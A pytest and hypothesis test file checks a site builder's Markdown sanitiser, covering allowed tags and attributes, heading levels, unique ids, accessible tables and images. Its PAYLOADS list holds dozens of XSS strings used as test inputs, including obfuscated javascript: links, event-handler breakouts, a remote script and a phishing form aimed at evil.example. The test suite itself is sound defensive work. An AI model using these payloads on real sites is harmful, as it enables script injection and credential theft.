"""Markdown: what pages need is added, what could harm is taken away."""

import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import example, given
from hypothesis import strategies as st
from small_site import THEMES

from site_builder.text.address import PAGE_IDS
from site_builder.text.markdown import Fragment, Versions, fragment, phrase, plain
from site_builder.text.normalize import fold

TAGS = {"a", "br", "code", "em", "img", "strong"} | {"table", "tbody", "td", "th", "thead", "tr"}
TAGS |= {"picture", "source", "blockquote", "div", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre", "ul"}
ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title", "loading", "width", "height"},
    "source": {"type", "srcset"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "ol": {"start"},
    "td": {"style"},
    "th": {"style", "scope"},
    **{name: {"id"} for name in ("h2", "h3", "h4", "li")},
}
SCHEMES = {"", "https", "http", "mailto", "tel"}
PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)">x</a></svg>
<iframe src="https://evil.example"></iframe>
<style>body{display:none}</style>
<p style="position:fixed" onclick="alert(1)">x</p>
<object data="data:text/html,x"></object><embed src="x">
<form action="https://evil.example"><input name="otp"><button>Gửi</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<!--<img src="--><img src=x onerror=alert(1)//">
<details open ontoggle=alert(1)>
<a href="javascript:alert(1)">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java%0ascript:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript&colon;alert(1))
[x](\x01javascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](DATA:text/html,<script>alert(1)</script>)
[x](blob:https://evil.example/1)
[x](file:///etc/passwd)
[x](feed:javascript:alert(1))
[x](https://a.gov.vn "onmouseover=alert(1) x=")
[x](https://a.gov.vn "\" onmouseover=\"alert(1)")
[x](https://a.gov.vn" onclick="alert(1))
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x" onerror="alert(1)](x.jpg)
![x](x.jpg "\" onerror=\"alert(1)")
![](x" onerror="alert(1))
[x](https://a.gov.vn "<img src=x onerror=alert(1)>")
[x](y.md "<img src=")![a](b.jpg "<img onerror=alert(1) src=")
![<img src=x onerror=alert(1)>](x.jpg "><script>alert(1)</script>")
![x](x.jpg,https://evil.example/y.jpg 2x)
<javascript:alert(1)>
<data:text/html,x>
<https://a.gov.vn/"onclick="alert(1)>
[x][1]\n\n[1]: javascript:alert(1)
[x][1]\n\n[1]: https://a.gov.vn "\" onclick=\"alert(1)"
# x <script>alert(1)</script>
# x" onclick="alert(1)
1. x {: onclick=alert(1)}
| a |\n| --- |\n| <script>alert(1)</script> |
`<script>alert(1)</script>`
    <script>alert(1)</script>
<p markdown="1">**x**</p><script>
x<br onload=alert(1)>
[a](https://a.gov.vn)<img src=1 href=1 onerror="javascript:alert(1)"></img>
""".strip().split("\n")


def soup(made: Fragment) -> BeautifulSoup:
    """The HTML as a browser reads it, with its links as they were written."""
    return BeautifulSoup(made.html(lambda target: target), "html.parser")


def versions(target: str) -> Versions:
    """A picture in two versions, whatever its name."""
    return Versions(webp=f"{target}.webp", jpeg=f"{target}.jpg", width=640, height=480)


def elements(made: Fragment) -> list[Tag]:
    """Every element."""
    return [item for item in soup(made).descendants if isinstance(item, Tag)]


def assert_harmless(made: Fragment) -> None:
    """Only known elements, only known attributes, only schemes that open a page, write a mail or call."""
    shown = BeautifulSoup(made.html(lambda target: target, versions), "html.parser")
    for element in [*elements(made), *(item for item in shown.descendants if isinstance(item, Tag))]:
        assert element.name in TAGS
        assert set(element.attrs) <= ATTRIBUTES.get(element.name, set())
        target = str(element.get("href") or element.get("src") or element.get("srcset") or "")
        assert urlsplit(re.sub(r"[\x00-\x20]", "", target)).scheme in SCHEMES
        assert re.fullmatch(r"(text-align: ?(left|center|right);?)?", str(element.get("style") or ""))


@pytest.mark.parametrize("payload", [line.replace(r"\n", "\n").replace(r"\x01", "\x01") for line in PAYLOADS])
def test_no_harm_comes_through(payload: str) -> None:
    """Whatever is put into a text, as a text of its own or among others; raw HTML stays visible text."""
    for text in (payload, f"Trước\n\n{payload}\n\n- {payload}\n", f"**{payload}**"):
        assert_harmless(fragment(text))
        assert_harmless(phrase(text))


@given(
    st.text()
    | st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "    ", "> ", "- ", "1. ", "*", "|"]), max_size=6).map("".join)
)
@example("\0<p>\0")
@example("\x02wzxhzdk:0\x03")
def test_no_text_is_harmful(text: str) -> None:
    """Law: nothing raises, and nothing but the known elements comes out."""
    for made in (fragment(text), phrase(text)):
        assert_harmless(made)
        assert len(made.parts) == len(made.holes) + 1
    assert "\n" not in plain(text)


def test_raw_html_stays_visible() -> None:
    """An editor who writes it sees what became of it."""
    assert soup(fragment("Bấm <b>Gửi</b> & <script>x</script>")).get_text() == "Bấm <b>Gửi</b> & <script>x</script>"


def test_a_link_is_put_through_the_resolver_and_escaped() -> None:
    """Where it leads depends on the reader's unit."""
    made = fragment("[a](../guides/x.md#b) ![ảnh](../media/y.jpg) [c](https://a.gov.vn/?x=1&y=2)")
    assert made.targets == ("../guides/x.md#b", "../media/y.jpg", "https://a.gov.vn/?x=1&y=2")
    html = BeautifulSoup(made.html(lambda target: f'"><script>{target}'), "html.parser")
    assert html.find("script") is None
    assert [item["href"] for item in html.find_all("a")] == [
        '"><script>../guides/x.md#b',
        '"><script>https://a.gov.vn/?x=1&y=2',
    ]
    assert [item["src"] for item in html.find_all("img")] == ['"><script>../media/y.jpg']


def test_a_picture_comes_in_two_versions_of_one_size() -> None:
    """A browser that knows no WebP, or no <picture>, shows the JPEG; the size is known before it has come."""
    made = fragment('[![Lớp & "học"](a.jpg "Ấp <1>")](b.md)')
    html = made.html(lambda target: f"../{target}", versions)
    assert html == (
        '<p><a href="../b.md"><picture><source type="image/webp" srcset="a.jpg.webp">'
        '<img src="a.jpg.jpg" alt="Lớp &amp; &quot;học&quot;" title="Ấp &lt;1&gt;" width="640" height="480" '
        'loading="lazy"></picture></a></p>'
    )


def test_a_title_that_looks_like_a_tag_is_no_picture() -> None:
    """Only tags that the sanitiser wrote are opened."""
    made = fragment('[x](a.md "<img src=b.jpg alt=c>")')
    assert [hole.target for hole in made.holes] == ["a.md"]


def test_a_backslash_hides_a_mark_and_leaves_no_trace() -> None:
    """Neither in an id nor in a target."""
    made = fragment("# 1\\. Mở \\#\n\n[x](cai\\_vneid.md)\n")
    assert made.ids == {"1-mo"}
    assert made.targets == ("cai_vneid.md",)
    assert made.html(lambda target: target).count("\\") == 0


def test_headings_begin_at_level_two_and_skip_none() -> None:
    """The page's own heading is level one."""
    made = fragment("### Một\n\n# Hai\n\n#### Ba\n\n###### Bốn\n\n## Năm\n\n# Sáu\n")
    assert [item.name for item in elements(made)] == ["h2", "h2", "h3", "h4", "h3", "h2"]


@given(st.lists(st.integers(1, 6), max_size=8))
def test_no_heading_skips_a_level(levels: list[int]) -> None:
    """Law: the first is h2, and each is at most one deeper than the one before (WCAG 1.3.1)."""
    found = [int(item.name[1]) for item in elements(fragment("\n\n".join(f"{'#' * level} a" for level in levels)))]
    assert len(found) == len(levels)
    assert all(after - before <= 1 for before, after in zip([1, *found], found, strict=False))


def test_ids_are_unique_also_after_folding() -> None:
    """Đ becomes d; marks are dropped, so that two headings may fold alike."""
    made = fragment("# Đường dây\n\n# Đương đẩy\n\n# Duong day\n\n# …\n\n# buoc 1\n\n1. Một\n2. Hai\n")
    ids = [str(item["id"]) for item in elements(made) if item.get("id")]
    assert ids == ["duong-day", "duong-day-2", "duong-day-3", "muc", "buoc-1", "buoc-1-2", "buoc-2"]
    assert made.ids == set(ids)


@given(st.lists(st.sampled_from(["Bước 1", "buoc-1", "Đ", "d", "D 2", "muc", "…"]), max_size=6))
def test_no_two_places_share_an_id(titles: list[str]) -> None:
    """Law: whatever the headings are."""
    made = fragment("\n\n".join(f"# {title}" for title in titles) + "\n\n1. a\n2. b\n")
    ids = [str(item["id"]) for item in elements(made) if item.get("id")]
    assert len(set(ids)) == len(ids) == len(titles) + 2
    assert all(fold(name) == name for name in ids)


def test_steps_can_be_linked() -> None:
    """Those of the first list of the text; inner and later lists are no steps."""
    made = fragment("1. Mở\n    1. trong\n2. Bấm\n\nRồi\n\n1. Khác\n")
    assert [item.get("id") for item in elements(made) if item.name == "li"] == ["buoc-1", None, "buoc-2", None]


def test_a_table_stands_in_a_box_that_scrolls() -> None:
    """The page itself never scrolls sideways (WCAG 1.4.10); the box can be reached by keyboard and has a name."""
    made = fragment("- a\n\n| Ngày | Giờ |\n| --- | :-: |\n| Thứ Hai | 7h |\n")
    table = soup(made).find("table")
    assert isinstance(table, Tag)
    box = table.parent
    assert isinstance(box, Tag)
    assert (box.name, box.get("role"), box.get("tabindex"), box.get("aria-label")) == ("div", "group", "0", "Bảng")
    assert [head.get("scope") for head in table.find_all("th")] == ["col", "col"]
    assert [cell.get_text() for cell in table.find_all("td")] == ["Thứ Hai", "7h"]


def test_pictures_without_words_are_noted() -> None:
    """Blanks are no words. Pictures load when they are needed."""
    made = fragment("![](a.jpg) ![  ](b.jpg) ![Lớp học](c.jpg)")
    assert made.silent_pictures == ("a.jpg", "b.jpg")
    assert [item.get("loading") for item in elements(made) if item.name == "img"] == ["lazy"] * 3


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("một **hai**", "một <strong>hai</strong>"),
        ("[a](b.md) và [c](d.md)", '<a href="b.md">a</a> và <a href="d.md">c</a>'),
        ("một\n\nhai", "<p>một</p>\n<p>hai</p>"),
        ("- một", "- một"),
        ("1. một", "1. một"),
        ("# một", "# một"),
    ],
)
def test_a_sentence_loses_its_paragraph(text: str, html: str) -> None:
    """Two paragraphs and lists keep theirs."""
    assert phrase(text).html(lambda target: target) == html


def test_plain_words() -> None:
    """For feeds and descriptions: no marks, no tags, words of neighbouring blocks apart."""
    text = "# Một\n\n- hai\n- **ba** & <b>\n\n| bốn | năm |\n| --- | --- |\n| 6 | [bảy](x.md) |\n"
    assert plain(text) == "Một hai ba & <b> bốn năm 6 bảy"


@given(st.text())
def test_the_same_text_is_the_same_html(text: str) -> None:
    """Law 2, in small: nothing is remembered from one text to the next."""
    first = fragment.__wrapped__(text)
    fragment.__wrapped__("# " + text)
    assert fragment.__wrapped__(text) == first


def test_every_id_of_a_template_is_kept_from_headings() -> None:
    """A new part of a page comes with its id in PAGE_IDS."""
    sources = [path.read_text("utf-8") for path in (THEMES / "default").rglob("*.html")]
    ids = {name for source in sources for name in re.findall(r'\bid="([\w-]+)"', source)}
    ids |= {name for source in sources for name in re.findall(r'call notice\([^)]*, "([\w-]+)"\)', source)}
    assert ids
    assert ids <= PAGE_IDS
